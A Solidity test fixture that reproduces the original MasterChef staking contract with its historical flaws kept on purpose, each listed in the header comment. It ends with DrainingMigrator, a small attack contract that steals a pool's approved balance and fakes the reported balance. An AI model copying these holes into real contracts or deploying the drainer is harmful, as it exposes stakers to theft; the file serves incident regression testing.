// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {MockERC20} from "../MockERC20.sol";

/// @notice What `LegacyMasterChef.migrate` hands the pool's whole balance to.
interface ILegacyMigrator {
    function migrate(IERC20 token) external returns (IERC20);
}

/// @notice Test-only reproduction of the first MasterChef's mechanism (2020), written for the incident
/// suite, on a timestamp clock: the reward token is minted into the chef when a pool updates and paid
/// out on the user's next action. Kept as it was, because each trait below is one historical incident:
/// - an owner-set migrator receives an approval of a pool's whole balance (Sushi migrator);
/// - `add` accepts a token that already has a pool (duplicate LP pool);
/// - a deposit credits `amount`, not what arrived (Zabu, fee-on-transfer);
/// - a pool's stake is `lpToken.balanceOf(this)`, which counts minted rewards when the reward token is
///   staked (reward token == staked token);
/// - `add` and `set` may loop over every pool (massUpdatePools gas DoS);
/// - the per-share index is scaled by 1e12 (precision loss);
/// - a pool update divides by `totalAllocPoint` (zero weights, BoostedMasterChefJoe);
/// - a pool without stake skips its emission, which is never minted (idle time).
contract LegacyMasterChef {
    struct UserInfo {
        uint256 amount;
        uint256 rewardDebt;
    }

    struct PoolInfo {
        IERC20 lpToken;
        uint256 allocPoint;
        uint256 lastRewardTime;
        uint256 accRewardPerShare;
    }

    error NotOwner(address caller);
    error MigrationMismatch(uint256 before, uint256 reported);
    error InsufficientStake(uint256 amount, uint256 staked);

    uint256 internal constant ACC_PRECISION = 1e12;

    MockERC20 public immutable reward;
    uint256 public immutable rewardPerSecond;
    address public immutable owner;
    ILegacyMigrator public migrator;
    uint256 public totalAllocPoint;
    PoolInfo[] public poolInfo;
    mapping(uint256 pid => mapping(address user => UserInfo)) public userInfo;

    constructor(MockERC20 reward_, uint256 rewardPerSecond_) {
        reward = reward_;
        rewardPerSecond = rewardPerSecond_;
        owner = msg.sender;
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    function poolLength() external view returns (uint256) {
        return poolInfo.length;
    }

    function add(uint256 allocPoint, IERC20 lpToken, bool withUpdate) external onlyOwner {
        if (withUpdate) massUpdatePools();
        totalAllocPoint += allocPoint;
        poolInfo.push(PoolInfo(lpToken, allocPoint, block.timestamp, 0));
    }

    function set(uint256 pid, uint256 allocPoint, bool withUpdate) external onlyOwner {
        if (withUpdate) massUpdatePools();
        totalAllocPoint = totalAllocPoint - poolInfo[pid].allocPoint + allocPoint;
        poolInfo[pid].allocPoint = allocPoint;
    }

    function setMigrator(ILegacyMigrator migrator_) external onlyOwner {
        migrator = migrator_;
    }

    /// @notice Anyone may call it once the owner set a migrator: the pool's token becomes whatever the
    /// migrator returns, provided it reports the same balance.
    function migrate(uint256 pid) external {
        PoolInfo storage pool = poolInfo[pid];
        uint256 bal = pool.lpToken.balanceOf(address(this));
        pool.lpToken.approve(address(migrator), bal);
        IERC20 newToken = migrator.migrate(pool.lpToken);
        uint256 reported = newToken.balanceOf(address(this));
        if (reported != bal) revert MigrationMismatch(bal, reported);
        pool.lpToken = newToken;
    }

    function massUpdatePools() public {
        for (uint256 pid = 0; pid < poolInfo.length; ++pid) updatePool(pid);
    }

    function updatePool(uint256 pid) public {
        PoolInfo storage pool = poolInfo[pid];
        if (block.timestamp <= pool.lastRewardTime) return;
        uint256 supply = pool.lpToken.balanceOf(address(this));
        if (supply == 0) {
            pool.lastRewardTime = block.timestamp;
            return;
        }
        uint256 minted =
            ((block.timestamp - pool.lastRewardTime) * rewardPerSecond * pool.allocPoint) / totalAllocPoint;
        reward.mint(address(this), minted);
        pool.accRewardPerShare += (minted * ACC_PRECISION) / supply;
        pool.lastRewardTime = block.timestamp;
    }

    function pendingReward(uint256 pid, address user) external view returns (uint256) {
        PoolInfo storage pool = poolInfo[pid];
        UserInfo storage u = userInfo[pid][user];
        uint256 acc = pool.accRewardPerShare;
        uint256 supply = pool.lpToken.balanceOf(address(this));
        if (block.timestamp > pool.lastRewardTime && supply != 0) {
            uint256 minted =
                ((block.timestamp - pool.lastRewardTime) * rewardPerSecond * pool.allocPoint) /
                    totalAllocPoint;
            acc += (minted * ACC_PRECISION) / supply;
        }
        return (u.amount * acc) / ACC_PRECISION - u.rewardDebt;
    }

    function deposit(uint256 pid, uint256 amount) external virtual {
        PoolInfo storage pool = poolInfo[pid];
        UserInfo storage u = userInfo[pid][msg.sender];
        updatePool(pid);
        _payPending(pool, u);
        pool.lpToken.transferFrom(msg.sender, address(this), amount);
        u.amount += amount;
        u.rewardDebt = (u.amount * pool.accRewardPerShare) / ACC_PRECISION;
    }

    function withdraw(uint256 pid, uint256 amount) external {
        PoolInfo storage pool = poolInfo[pid];
        UserInfo storage u = userInfo[pid][msg.sender];
        if (amount > u.amount) revert InsufficientStake(amount, u.amount);
        updatePool(pid);
        _payPending(pool, u);
        u.amount -= amount;
        u.rewardDebt = (u.amount * pool.accRewardPerShare) / ACC_PRECISION;
        pool.lpToken.transfer(msg.sender, amount);
    }

    function emergencyWithdraw(uint256 pid) external {
        UserInfo storage u = userInfo[pid][msg.sender];
        uint256 amount = u.amount;
        u.amount = 0;
        u.rewardDebt = 0;
        poolInfo[pid].lpToken.transfer(msg.sender, amount);
    }

    function _payPending(PoolInfo storage pool, UserInfo storage u) internal {
        if (u.amount == 0) return;
        uint256 owed = (u.amount * pool.accRewardPerShare) / ACC_PRECISION - u.rewardDebt;
        if (owed != 0) reward.transfer(msg.sender, owed);
    }
}

/// @notice Test-only migrator of the Sushi incident's shape: it takes the approved balance for its
/// deployer and poses as the "new" token by reporting that balance for the chef.
contract DrainingMigrator is ILegacyMigrator {
    address private immutable _thief;
    address private _chef;
    uint256 private _reported;

    constructor() {
        _thief = msg.sender;
    }

    function migrate(IERC20 token) external returns (IERC20) {
        _chef = msg.sender;
        _reported = token.balanceOf(msg.sender);
        token.transferFrom(msg.sender, _thief, _reported);
        return IERC20(address(this));
    }

    function balanceOf(address account) external view returns (uint256) {
        return account == _chef ? _reported : 0;
    }
}
